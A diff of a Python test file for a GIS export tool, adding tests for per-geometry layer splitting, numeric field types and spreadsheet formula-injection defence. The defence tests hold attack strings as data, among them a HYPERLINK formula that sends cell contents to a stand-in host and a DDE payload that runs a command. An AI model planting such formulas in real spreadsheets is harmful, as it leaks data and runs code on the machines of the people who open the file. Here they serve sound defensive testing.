@@ -14,6 +14,7 @@ from pathlib import Path
 
 import geopandas as gpd
 import numpy as np
+import pandas as pd
 import pyogrio
 import pytest
 import shapely
@@ -179,15 +180,19 @@ def test_gk_zone_of_the_layers_centre(layers: dict[str, gpd.GeoDataFrame]) -> No
 def test_gpkg_layers_counts_crs_and_chinese_fields(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
     path = write_gpkg(layers, tmp_path / "out.gpkg")
     info = ogrinfo(path)
-    assert set(info) == {"风险源", "重点企业"}
-    assert info["风险源"].count == 4 and info["重点企业"].count == 2
+    # 风险源 mixes points, a line and a polygon: one layer per geometry type (geo.geometry_split)
+    assert set(info) == {"风险源_点", "风险源_线", "风险源_面", "重点企业"}
+    assert {n: lyr.count for n, lyr in info.items()} == {"风险源_点": 2, "风险源_线": 1, "风险源_面": 1, "重点企业": 2}
+    assert {n: lyr.geometry for n, lyr in info.items()} == {"风险源_点": "Point", "风险源_线": "Line String",
+                                                             "风险源_面": "Polygon", "重点企业": "Point"}
     assert all(lyr.epsg == 4490 for lyr in info.values())
-    assert info["风险源"].fields == ["风险点编号", "风险点名称", "风险等级", "疏散半径(m)", "evacuation_note"]
+    for part in ("风险源_点", "风险源_线", "风险源_面"):
+        assert info[part].fields == ["风险点编号", "风险点名称", "风险等级", "疏散半径(m)", "evacuation_note"]
     assert info["重点企业"].fields == ["名称", "统一社会信用代码", "从业人员"]
-    assert pyogrio.list_layers(path)[:, 0].tolist() == ["风险源", "重点企业"]
-    back = pyogrio.read_dataframe(path, layer="风险源")
-    assert back["风险点名称"].tolist() == layers["风险源"]["风险点名称"].tolist()
-    assert back.geom_type.tolist() == ["Point", "Point", "LineString", "Polygon"]
+    assert pyogrio.list_layers(path)[:, 0].tolist() == ["风险源_点", "风险源_线", "风险源_面", "重点企业"]
+    back = [pyogrio.read_dataframe(path, layer=part) for part in ("风险源_点", "风险源_线", "风险源_面")]
+    assert [n for b in back for n in b["风险点名称"]] == layers["风险源"]["风险点名称"].tolist()
+    assert [t for b in back for t in b.geom_type] == ["Point", "Point", "LineString", "Polygon"]
 
 
 def test_gpkg_and_shapefiles_in_the_gauss_kruger_zone(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
@@ -302,12 +307,17 @@ def test_bad_or_clashing_file_names_are_refused(tmp_path: Path, layers: dict[str
 def test_geojson_is_rfc7946_lonlat_with_exact_coordinates(tmp_path: Path,
                                                           layers: dict[str, gpd.GeoDataFrame]) -> None:
     paths = write_geojson(layers, tmp_path / "geojson", names=NAMES)
-    assert [p.name for p in paths] == ["risk_sources.geojson", "enterprises.geojson"]
-    for path, gdf in zip(paths, layers.values(), strict=True):
+    # the mixed 风险源 layer is one file per geometry type, like the Shapefiles
+    assert [p.name for p in paths] == ["risk_sources_pt.geojson", "risk_sources_ln.geojson",
+                                       "risk_sources_pg.geojson", "enterprises.geojson"]
+    src = layers["风险源"]
+    parts = [src.iloc[[0, 1]], src.iloc[[2]], src.iloc[[3]], layers["重点企业"]]
+    for path, gdf in zip(paths, parts, strict=True):
         doc = json.loads(path.read_text(encoding="utf-8"))
         assert "crs" not in doc and doc["type"] == "FeatureCollection"
         info = ogrinfo(path)
         assert next(iter(info.values())).epsg == 4326
+        assert next(iter(info.values())).geometry in ("Point", "Line String", "Polygon")
         assert next(iter(info.values())).count == len(gdf)
         back = pyogrio.read_dataframe(path)
         assert back.crs.to_epsg() == 4326
@@ -358,6 +368,74 @@ def test_xlsx_sheets_headers_widths_and_lonlat(tmp_path: Path, layers: dict[str,
     assert firms.cell(row=3, column=2).value is None
     assert firms.cell(row=3, column=3).value == 860
     assert "经度" not in [c.value for c in wb[long_name[:31]][1]]
+
+
+HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
+DDE = "=cmd|' /C calc'!A0"
+ATTACKS = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_xlsx_text_is_never_a_formula(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
+    n = len(ATTACKS)
+    firms = gpd.GeoDataFrame({"名称": ATTACKS, "说明": [f"{a} 之后" for a in ATTACKS], "负数": [-3.5] * n,
+                              "人数": list(range(-3, n - 3))},
+                             geometry=[shapely.Point(102.4 + i / 100, 24.9) for i in range(n)], crs=4490)
+    table = firms.drop(columns="geometry").assign(**{"=SUM(A1)": ATTACKS})
+    path = write_xlsx({"企业": firms, "表": table}, tmp_path / "out.xlsx", title=HYPERLINK, data_date="-1",
+                      source_note=DDE)
+    wb = load_workbook(path)
+    seen = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                # XML reads a stored CR back as LF, so "\r=1+1" comes back as "\n=1+1"
+                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
+                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
+                    seen += 1
+    assert seen >= 3 * n + 4  # every attack, in two sheets and a header, plus the info sheet texts
+    ws = wb["企业"]
+    assert [c.value for c in ws["A"][1:]] == [a.replace("\r", "\n") for a in ATTACKS]  # the text itself
+    assert {c.data_type for c in ws["C"][1:]} == {"n"} and ws["C2"].value == -3.5  # negative numbers stay numbers
+    assert [c.value for c in ws["D"][1:]] == list(range(-3, n - 3))
+    assert wb["表"]["E1"].value == "=SUM(A1)" and wb["表"]["E1"].data_type == "s"
+    assert wb["说明"]["B1"].value == HYPERLINK and wb["说明"]["B3"].value == DDE
+
+
+def test_number_only_columns_are_numeric_gis_fields(tmp_path: Path) -> None:
+    gdf = gpd.GeoDataFrame({"R值": pd.Series([59.04, None, 196.8], dtype=object),
+                            "外部安全防护距离(m)": pd.Series([390.0, None, 1200.0], dtype=object),
+                            "等级": pd.Series([1, None, 2], dtype=object),
+                            "编号": pd.Series(["001", None, "-2"], dtype=object)},
+                           geometry=[shapely.Point(102.4 + i / 10, 24.9) for i in range(3)], crs=4490)
+    gpkg = write_gpkg({"清单": gdf}, tmp_path / "out.gpkg")
+    out = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(gpkg)], capture_output=True, text=True, check=True).stdout
+    assert re.search(r"^R值: Real", out, re.M) and re.search(r"^外部安全防护距离\(m\): Real", out, re.M)
+    assert re.search(r"^等级: Integer64", out, re.M) and re.search(r"^编号: String", out, re.M)
+    back = pyogrio.read_dataframe(gpkg)
+    assert back["R值"].tolist()[::2] == [59.04, 196.8] and np.isnan(back["R值"][1])
+    assert back["编号"].tolist()[::2] == ["001", "-2"] and pd.isna(back["编号"][1])  # codes stay text
+    zipped = write_shapefiles_zip({"清单": gdf}, tmp_path / "out.zip", names={"清单": "lst"})
+    with zipfile.ZipFile(zipped) as zf:
+        zf.extractall(tmp_path / "shp")
+    shp = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(tmp_path / "shp" / "lst.shp")], capture_output=True,
+                         text=True, check=True).stdout
+    assert re.search(r"^R值: Real", shp, re.M) and not re.search(r"^R值: String", shp, re.M)
+
+
+def test_single_and_multi_parts_make_one_multi_layer(tmp_path: Path) -> None:
+    lines = gpd.GeoDataFrame({"名称": ["a", "b"]}, crs=4490, geometry=[
+        shapely.LineString([(102.3, 24.8), (102.4, 24.9)]),
+        shapely.MultiLineString([[(102.5, 24.8), (102.6, 24.9)], [(102.7, 24.8), (102.8, 24.9)]])])
+    info = ogrinfo(write_gpkg({"管道": lines}, tmp_path / "out.gpkg"))
+    assert {n: (lyr.geometry, lyr.count) for n, lyr in info.items()} == {"管道": ("Multi Line String", 2)}
+
+
+def test_fields_csv_neutralises_formula_like_names(tmp_path: Path) -> None:
+    gdf = gpd.GeoDataFrame({"=SUM(A1)": [1], "名称": ["x"]}, geometry=[shapely.Point(102.4, 24.9)], crs=4490)
+    with zipfile.ZipFile(write_shapefiles_zip({"t": gdf}, tmp_path / "out.zip")) as zf:
+        zf.extractall(tmp_path)
+    assert read_fields_csv(tmp_path / "t_fields.csv") == {"SUM_A1": "'=SUM(A1)", "名称": "名称"}
 
 
 # --- errors ------------------------------------------------------------------------------------
